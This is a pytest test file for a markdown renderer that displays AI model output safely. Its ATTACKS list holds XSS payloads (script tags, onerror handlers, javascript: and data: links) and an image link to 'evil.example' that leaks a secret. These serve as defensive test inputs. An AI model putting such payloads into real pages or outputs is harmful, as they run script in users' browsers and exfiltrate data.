"""Markdown of models: rendered, but never as their own HTML, and never with an image of another server."""

from __future__ import annotations

import pytest

from herding.ui.kit.responses.markdown import MAX_BRACKETS, MAX_CHARS, complete_blocks, render_markdown

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/?q=secret)",
    '[x](https://a.b "><img src=x onerror=1>")',
    "<div hx-get=/ui/x data-module=run>",
    '```x" onclick=1 hx-get=/\ncode\n```',
    "<svg><a xlink:href=javascript:alert(1)>",
    "| a |\n|--|\n| <iframe src=x> |",
    "[r]\n\n[r]: javascript:alert(1)",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_of_a_model_becomes_html_or_loads_an_image(text: str) -> None:
    shown = render_markdown(text)
    assert "<img" not in shown
    for tag in ("<script", "<iframe", "<svg", "<div hx"):
        assert tag not in shown
    for attribute in (' onerror="', ' onclick="', ' hx-get="', ' data-module="', 'href="javascript', 'href="data'):
        assert attribute not in shown


def test_markdown_is_rendered() -> None:
    shown = render_markdown(
        "# T\n\n**b** `c`\nline\n\n| a | b |\n|--|--:|\n| 1 | 2 |\n\n```python\nx = '<b>'\n```\n\n~~s~~"
    )
    for part in ("<h1>T</h1>", "<strong>b</strong>", "<br>", '<td style="text-align:right">2</td>', "<s>s</s>"):
        assert part in shown
    assert "<span>python</span>" in shown
    assert "data-copy" in shown
    assert "x = '&lt;b&gt;'" in shown


def test_links_open_in_another_tab_and_tell_nothing() -> None:
    shown = render_markdown("[x](https://a.example/y)")
    assert 'target="_blank"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


def test_an_image_is_named() -> None:
    assert "[Image: a chart]" in render_markdown("![a chart](https://a.example/c.png)")
    assert "[Image: https://a.example/c.png]" in render_markdown("![](https://a.example/c.png)")


def test_templates_of_the_page_stay_text() -> None:
    shown = render_markdown("{{x}} ${y} `{{z}}`")
    assert "{" not in shown
    assert "$" not in shown


def test_blocks_that_are_complete_are_told_from_the_open_one() -> None:
    text = "First *one*.\n\n- a\n- b\n\n```js\nlet x"
    html, start = complete_blocks(text)
    assert "<em>one</em>" in html
    assert "<li>b</li>" in html
    assert text[start:] == "```js\nlet x"
    for growing in ("", "one line", "one\ntwo", "- a\n- b", "```\na\n\nb"):
        assert complete_blocks(growing) == ("", 0)


def test_blocks_one_after_the_other_are_the_whole_text() -> None:
    text = "# A\n\npara\n\n> quote\n\n1. x\n2. y\n\n| a |\n|--|\n| b |\n\n---\n\nlast"
    shown, rest = "", ""
    for character in text:
        rest += character
        html, start = complete_blocks(rest)
        shown, rest = shown + html, rest[start:]
    assert shown + render_markdown(rest) == render_markdown(text)


@pytest.mark.parametrize("text", ["[" * 60_000, "![" * 45_000, "a\n\n" + "[" * (MAX_BRACKETS + 1), "a" * 10**7])
def test_texts_that_would_hold_up_the_server_are_shown_as_plain_text(text: str) -> None:
    assert render_markdown(text) == f'<pre class="code" tabindex="0">{text}</pre>'
    if len(text) <= MAX_CHARS:
        assert complete_blocks(text + "\n\nnext") == ("", 0)


def test_many_links_are_still_links() -> None:
    text = "\n\n".join("[a](https://x.test) " * 50 for _ in range(90))
    assert render_markdown(text).count("<a ") == 50 * 90


def test_json_in_prose_keeps_its_indentation() -> None:
    html = render_markdown('Here it is:\n{\n  "a": [\n    1\n  ]\n}\nAnything *else*?')
    assert "{\n  " in html.unescape()
    assert "\n    1\n" in html.unescape()
    assert "<em>else</em>" in html
    assert "Copy code" in html
    assert "<pre" not in render_markdown("A set is\n{\nnot closed")
    assert render_markdown("```text\n{\n  \n}\n```").count("<pre") == 1


def test_a_list_has_its_marks_at_the_side_where_its_text_begins() -> None:
    for text, tag in (("- שלום", "ul"), ("1. שלום", "ol"), ("> שלום", "blockquote")):
        assert f'<{tag} dir="auto">' in render_markdown(text)
